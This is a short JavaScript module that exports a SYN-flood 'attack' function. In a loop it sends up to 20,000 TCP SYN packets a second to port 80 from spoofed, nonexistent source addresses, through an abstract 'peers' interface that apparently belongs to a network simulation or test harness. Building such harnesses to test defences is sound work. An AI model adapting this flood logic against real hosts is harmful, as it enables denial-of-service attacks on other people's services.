import { SYN } from '../peers.js'

export const summary = 'up to 20,000 SYNs a second from addresses that do not exist'
export const short = true

export const attack = async (peers, { goesOn }) => {
  for (let number = 0; await goesOn(); )
    for (let n = 0; n < 100; n++, number++)
      peers.send({
        source: peers.address(number),
        sourcePort: 1024 + (number % 60_000),
        port: 80,
        seq: peers.random.uint32(),
        flags: SYN,
        options: Uint8Array.of(2, 4, 5, 0xb4),
      })
}
